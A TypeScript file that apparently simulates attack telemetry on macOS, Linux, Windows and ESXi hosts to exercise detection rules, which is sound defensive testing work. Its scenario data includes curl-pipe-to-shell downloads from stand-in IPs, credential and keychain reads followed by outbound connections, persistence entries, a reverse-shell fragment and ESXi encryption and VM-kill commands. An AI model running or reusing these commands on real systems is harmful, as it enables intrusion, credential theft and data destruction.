/** The attacks among the fleet's days, each as its events tell it. What one of them needs is in its name and first line. */
import type { Process } from '../generator/endpoint.js';
import type { Day } from './day.js';

export interface AttackKind {
  readonly name: string;
  readonly platform: 'macos' | 'linux' | 'windows' | 'esxi';
  readonly rule: string;
  /** On a hypervisor: the lines typed. */
  readonly lines?: readonly string[];
  readonly act?: (day: Day, timeMs: number) => void;
}

const mac = { platform: 'macos', rule: 'AN0173' } as const;
const linux = { platform: 'linux', rule: 'AN0174' } as const;
const windows = { platform: 'windows', rule: 'AN0172' } as const;
const esxi = { platform: 'esxi', rule: 'AN0175' } as const;
const temporary = (day: Day, ...parts: readonly string[]): string => day.home('AppData', 'Local', 'Temp', ...parts);

export const attackKinds: readonly AttackKind[] = [
  {
    ...mac,
    name: 'mac-downloaded-viewer',
    act(day, timeMs) {
      const { endpoint } = day;
      const script = day.home('Downloads', 'invoice_viewer.py');
      const root = day.python(timeMs, day.process('shell'), [script]);
      enumerate(day, timeMs + 900, root, [
        ['/usr/bin/sw_vers'],
        ['/usr/sbin/ioreg', '-c', 'IOPlatformExpertDevice'],
        ['/usr/bin/dscl', '.', '-list', '/Users'],
      ]);
      endpoint.connect(timeMs + 7_000, root, '203.0.113.66', 8081);
      const item = day.home('Library', 'LaunchAgents', 'com.apple.softwareupdate.helper.plist');
      endpoint.file(timeMs + 13_000, root, item);
      endpoint.launchItem(timeMs + 13_120, root, item, ['/bin/sh', '-c', 'curl -s http://203.0.113.66:8081/b | sh']);
      endpoint.file(timeMs + 24_000, root, script, 'deletion');
    },
  },
  {
    ...mac,
    name: 'mac-trojan-package',
    act(day, timeMs) {
      const { endpoint } = day;
      const pip = day.python(timeMs, day.process('shell'), ['-m', 'pip', 'install', 'reqeusts-toolbelt']);
      endpoint.visit(timeMs + 500, pip, 'files.pythonhosted.org', '151.101.64.223');
      const setup = day.python(timeMs + 6_000, pip, [
        '-c',
        'exec(compile(open("setup.py").read(), "setup.py", "exec"))',
      ]);
      const shell = endpoint.spawn(timeMs + 7_000, setup, [
        '/bin/sh',
        '-c',
        'curl -fsSL http://198.51.100.23/t | bash',
      ]);
      const curl = endpoint.spawn(timeMs + 7_030, shell, ['curl', '-fsSL', 'http://198.51.100.23/t'], {
        path: '/usr/bin/curl',
      });
      endpoint.connect(timeMs + 7_090, curl, '198.51.100.23', 80);
      const bash = endpoint.spawn(timeMs + 8_000, shell, ['bash'], { path: '/bin/bash' });
      endpoint.file(timeMs + 9_000, bash, day.home('.zshrc'));
    },
  },
  {
    ...mac,
    name: 'mac-sleeping-job',
    act(day, timeMs) {
      const { endpoint } = day;
      const job = endpoint.spawn(
        timeMs - 4 * 3_600_000,
        day.process('init'),
        ['/usr/libexec/xpcproxy', 'com.vendor.metricsd'],
        { user: 'root' },
      );
      endpoint.exec(timeMs - 4 * 3_600_000 + 90, job, ['/usr/local/bin/python3', '/Library/Metrics/agent.py']);
      endpoint.connect(timeMs, job, '203.0.113.77', 4444);
      enumerate(day, timeMs + 2_000, job, [
        ['/usr/bin/sw_vers'],
        ['/usr/bin/whoami'],
        ['/usr/sbin/networksetup', '-listallhardwareports'],
      ]);
    },
  },
  {
    ...mac,
    name: 'mac-stealer',
    act(day, timeMs) {
      const { endpoint } = day;
      const root = day.python(timeMs, day.process('shell'), [day.home('Downloads', 'coin_helper.py')]);
      endpoint.file(timeMs + 500, root, day.home('Library', 'Keychains', 'login.keychain-db'), 'open');
      enumerate(day, timeMs + 900, root, [['/usr/bin/sw_vers'], ['/usr/sbin/system_profiler', 'SPHardwareDataType']]);
      endpoint.connect(timeMs + 3_000, root, '203.0.113.12', 443);
    },
  },
  {
    ...linux,
    name: 'linux-web-shell',
    act(day, timeMs) {
      const { endpoint } = day;
      const shell = endpoint.spawn(timeMs, day.process('web'), ['/bin/sh', '-c', 'python3 /tmp/.x/r.py']);
      const root = endpoint.spawn(timeMs + 80, shell, ['python3', '/tmp/.x/r.py'], { path: '/usr/bin/python3.12' });
      endpoint.connect(timeMs + 900, root, '203.0.113.8', 443);
      enumerate(day, timeMs + 4_000, root, [['/usr/bin/id'], ['/usr/bin/uname', '-a']]);
    },
  },
  {
    ...linux,
    name: 'linux-cron-exfiltration',
    act(day, timeMs) {
      const { endpoint, user } = day;
      const script = day.home('.cache', '.s', 'j.py');
      const shell = endpoint.spawn(timeMs, day.process('cron'), ['/bin/sh', '-c', `/usr/bin/python3 ${script}`], {
        user,
      });
      const root = endpoint.spawn(timeMs + 60, shell, ['/usr/bin/python3', script], { path: '/usr/bin/python3.12' });
      endpoint.file(timeMs + 900, root, day.home('.aws', 'credentials'), 'open');
      endpoint.connect(timeMs + 2_000, root, '203.0.113.50', 443);
    },
  },
  {
    ...linux,
    name: 'linux-user-unit',
    act(day, timeMs) {
      const { endpoint } = day;
      const root = day.python(timeMs, day.process('shell'), ['/var/tmp/update.py']);
      endpoint.connect(timeMs + 700, root, '203.0.113.91', 8443);
      enumerate(day, timeMs + 900, root, [
        ['/usr/bin/id'],
        ['/usr/bin/whoami'],
        ['/usr/bin/ss', '-tnp'],
        ['/usr/bin/sudo', '-l'],
      ]);
      endpoint.file(timeMs + 2_000, root, day.home('.config', 'systemd', 'user', 'gnome-helper.service'));
    },
  },
  {
    ...linux,
    name: 'linux-spoofed-ansible',
    act(day, timeMs) {
      const { endpoint } = day;
      const args = ['python3', '/tmp/x.py', 'ansible', 'AnsiballZ_copy.py'];
      const shell = endpoint.spawn(timeMs, day.process('web'), ['/bin/sh', '-c', args.join(' ')]);
      const root = endpoint.spawn(timeMs + 100, shell, args, { path: '/usr/bin/python3.12' });
      endpoint.connect(timeMs + 900, root, '203.0.113.8', 443);
    },
  },
  {
    ...windows,
    name: 'windows-macro',
    act(day, timeMs) {
      const { endpoint } = day;
      const word = endpoint.spawn(timeMs, day.process('init'), [
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        day.home('Downloads', 'offer.docm'),
      ]);
      const shell = endpoint.spawn(timeMs + 900, word, ['C:\\Windows\\System32\\cmd.exe', '/c', 'python.exe -c ...']);
      const root = endpoint.spawn(timeMs + 990, shell, [
        temporary(day, 'py', 'python.exe'),
        '-c',
        'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))',
      ]);
      const powershell = endpoint.spawn(timeMs + 3_000, root, [
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        '-enc',
        'SQBFAFgA',
      ]);
      endpoint.connect(timeMs + 4_000, powershell, '203.0.113.77', 443);
    },
  },
  {
    ...windows,
    name: 'windows-frozen-download',
    act(day, timeMs) {
      const { endpoint } = day;
      const path = day.home('Downloads', 'inv.exe');
      const loader = endpoint.spawn(timeMs, day.process('init'), [path]);
      const root = endpoint.spawn(timeMs + 300, loader, [path]);
      endpoint.library(timeMs + 500, root, temporary(day, '_MEI12342', 'python311.dll'));
      endpoint.registry(
        timeMs + 2_000,
        root,
        'HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u',
        path,
      );
      endpoint.connect(timeMs + 4_000, root, '203.0.113.90', 8080);
    },
  },
  {
    ...windows,
    name: 'windows-dropped-interpreter',
    act(day, timeMs) {
      const { endpoint } = day;
      const root = endpoint.spawn(timeMs, day.process('shell'), [
        'C:\\Users\\Public\\svc\\python.exe',
        'C:\\Users\\Public\\svc\\a.py',
      ]);
      enumerate(day, timeMs + 900, root, [
        ['C:\\Windows\\System32\\systeminfo.exe'],
        ['C:\\Windows\\System32\\net.exe', 'user', '/domain'],
        ['C:\\Windows\\System32\\nltest.exe', '/dclist:'],
      ]);
      endpoint.spawn(timeMs + 2_000, root, [
        'C:\\Windows\\System32\\schtasks.exe',
        '/create',
        '/tn',
        'Updater',
        '/tr',
        'C:\\Users\\Public\\svc\\python.exe',
      ]);
      endpoint.connect(timeMs + 4_000, root, '203.0.113.31', 443);
    },
  },
  {
    ...esxi,
    name: 'esxi-encryptor',
    lines: [
      'esxcli vm process list',
      'python3 /tmp/enc.py --dir /vmfs/volumes/ds1',
      'vim-cmd vmsvc/getallvms',
      'esxcli vm process kill --type=force --world-id=1',
    ],
  },
  {
    ...esxi,
    name: 'esxi-inline-shell',
    lines: ['python3 -c "import socket,subprocess,os;s=socket.socket()"', 'esxcli network ip connection list'],
  },
];

function enumerate(day: Day, timeMs: number, root: Process, commands: readonly (readonly string[])[]): void {
  for (const [step, args] of commands.entries()) day.endpoint.spawn(timeMs + step * 900, root, args);
}
